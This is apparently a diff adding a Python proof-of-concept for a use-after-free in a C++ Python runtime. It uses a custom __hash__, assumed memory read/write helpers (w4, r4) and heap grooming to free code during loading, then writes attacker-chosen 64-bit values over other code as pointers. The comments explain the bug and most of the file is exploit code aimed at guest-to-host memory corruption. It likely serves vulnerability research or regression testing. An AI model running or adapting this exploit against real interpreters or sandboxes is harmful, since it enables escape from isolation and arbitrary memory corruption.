@@ -1,0 +1,29 @@
+# A frozenset constant is built by asking its items for their hashes, while the code that is being loaded is in a C++
+# variable only. If a guest has changed the shape of an interned string to that of a class of its own, guest code runs
+# there; a collection at a safepoint frees the code that is being loaded (and its tree), and other code takes its place.
+# The rest of the constants is then written over that other code: 64 bits that the guest chooses, as pointers.
+import struct
+depth = [0]
+kept = []
+class H:
+    __slots__ = ()
+    def __hash__(self):
+        if depth[0]: return 1
+        depth[0] = 1
+        for i in range(100000): [i] * 300
+        for i in range(100):
+            kept.append(compile("pass", "t" + str(i), "exec"))
+        return 1
+    def __eq__(self, other): return False
+
+numbers = [struct.unpack("<d", struct.pack("<Q", 0x0000_4141_4141_0000 + i * 0x100))[0] for i in range(1000)]
+code = compile("x = 5 in {'zzz_victim', 'zzz_other', 'zzz_third', 'zzz_fourth'}\n" +
+    "\n".join(f"y = {number!r}" for number in numbers), "t", "exec")
+h = H()
+w4(id('zzz_victim'), r4(id(h)))
+# The same code with other globals is loaded once more; its tree stays.
+try: exec(code, {})
+except BaseException as e: print(repr(e))
+for code in kept:
+    try: exec(code, {"b": 1})
+    except Exception as e: print(repr(e))
